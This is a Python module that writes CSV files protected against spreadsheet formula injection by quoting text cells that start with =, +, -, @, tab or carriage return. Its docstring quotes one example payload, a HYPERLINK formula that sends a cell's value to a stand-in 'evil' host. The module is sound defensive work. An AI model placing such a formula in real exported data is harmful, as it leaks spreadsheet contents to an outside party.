"""Write CSV files that are safe to open in a spreadsheet: the lab's only CSV writer.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a
formula: ``=HYPERLINK("http://evil/?"&A1, "details")`` in a column name or a category level that
lands in ``information_value.csv`` would run in the bank's spreadsheet (CSV injection, OWASP).
:func:`write_csv` prefixes such text cells, and such column names, with a single quote
(``'=HYPERLINK(...)``), which every spreadsheet shows as text and nothing evaluates.

Only text is changed: numbers stay numbers (``-0.5`` in a numeric column is a value, not a
formula), so tables written for other programs read back identically unless a text cell really
started with one of those characters. Every module that writes a CSV file calls
:func:`write_csv` (a test checks that nothing else in the lab calls ``to_csv``).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: What is put in front of such a cell.
ESCAPE = "'"


def neutralise(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return ESCAPE + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised."""
    out = frame.copy()
    out.columns = pd.Index([neutralise(c) for c in out.columns])
    for column in out.columns:
        series = out[column]
        if series.dtype.kind in "biufcmM":
            continue  # numbers, booleans and dates are never formulas
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        out[column] = series.map(neutralise)
    if out.index.dtype.kind not in "biufcmM":
        out.index = pd.Index([neutralise(i) for i in out.index], name=neutralise(out.index.name))
    return out


def write_csv(frame: pd.DataFrame, path: Path, *, index: bool = False, **options: Any) -> Path:
    """Write ``frame`` to ``path`` as CSV with every formula-like text cell neutralised.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table.
    path : Path
        Where to write.
    index : bool
        Also write the index (default: no).
    **options
        Passed to :meth:`pandas.DataFrame.to_csv` (``lineterminator``, ``float_format``, ...).

    Returns
    -------
    Path
        ``path``.
    """
    safe_frame(frame).to_csv(path, index=index, **options)
    return path
